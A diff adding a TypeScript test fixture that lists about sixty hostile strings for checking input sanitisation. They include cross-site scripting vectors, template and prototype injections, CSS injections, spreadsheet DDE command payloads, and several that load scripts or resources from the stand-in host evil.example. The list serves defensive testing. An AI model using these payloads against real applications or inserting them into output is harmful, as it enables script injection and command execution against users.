@@ -1,0 +1,75 @@
+/**
+ * Sixty texts that do harm where a program is careless with them: on a page, in an address, in a style, in a template,
+ * in a spreadsheet. Where one runs, it calls `hit()`. None is longer than a username may be.
+ */
+export const hostileTexts: readonly string[] = [
+  // Elements that run by themselves
+  '<script>hit(1)</script>',
+  '</script><script>hit(2)</script>',
+  '"><script>hit(3)</script>',
+  '<scr<script>ipt>hit(4)</scr</script>ipt>',
+  '<SCRIPT SRC=//evil.example/5.js></SCRIPT>',
+  '<iframe srcdoc="<script>parent.hit(6)</script>">',
+  '<iframe src="javascript:parent.hit(7)">',
+  '<object data="javascript:hit(8)"></object>',
+  '<embed src="javascript:hit(9)">',
+  '<base href="//evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<link rel="stylesheet" href="//evil.example/12.css">',
+  // Event handlers
+  '<img src=x onerror=hit(13)>',
+  '"><img src=x onerror=hit(14)>',
+  "'><img src=x onerror=hit(15)>",
+  '<img src=x:x onerror&equals;hit(16)>',
+  '<body onload=hit(17)>',
+  '<input autofocus onfocus=hit(18)>',
+  '<details open ontoggle=hit(19)>',
+  '<video><source onerror=hit(20)></video>',
+  '<audio src=x onerror=hit(21)>',
+  '<marquee onstart=hit(22)>x</marquee>',
+  '<div onpointerover=hit(23) style=position:fixed;inset:0>',
+  '" onmouseover="hit(24)" autofocus x="',
+  "' onfocus='hit(25)' autofocus x='",
+  '<a href=# onclick=hit(26)>press</a>',
+  // SVG and MathML
+  '<svg onload=hit(27)>',
+  '<svg><script>hit(28)</script></svg>',
+  '<svg><animate onbegin=hit(29) attributeName=x>',
+  '<svg><a xlink:href="javascript:hit(30)"><text>x</text></a>',
+  '<math><mtext><style><img src=x onerror=hit(31)></style>',
+  '<svg><foreignObject><iframe onload=hit(32)>',
+  // Addresses
+  'javascript:hit(33)',
+  'JaVaScRiPt:hit(34)//',
+  'javascript://%0ahit(35)',
+  'data:text/html,<script>hit(36)</script>',
+  'vbscript:hit(37)',
+  '[press](javascript:hit(38))',
+  '![x](x"onerror="hit(39))',
+  '//evil.example/%2e%2e/40',
+  // Templates and code
+  '{{constructor.constructor("hit(41)")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker types
+  '${hit(42)}',
+  '<%= hit(43) %>',
+  '#{hit(44)}',
+  '`-hit(45)-`',
+  '\\"-hit(46)//',
+  "';hit(47);//",
+  '__proto__',
+  '*/hit(49)/*',
+  '&lt;script&gt;hit(50)&lt;/script&gt;',
+  // Styles
+  '</style><style>*{display:none!important}',
+  '<p style="background:url(//evil.example/52)">',
+  '}body{visibility:hidden;x:expression(hit(53))',
+  // Unicode: full width, right to left, invisible
+  '＜script＞hit(54)＜/script＞',
+  '\u200f<b onclick=hit(55)>\u05d0\u05d1\u05d2',
+  '\u200bhit\u2028(56)\ufeff',
+  // Cells of a spreadsheet
+  '=HYPERLINK("//evil.example/57","press")',
+  "+1+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  "-2+3+cmd|' /C calc'!A0",
+]
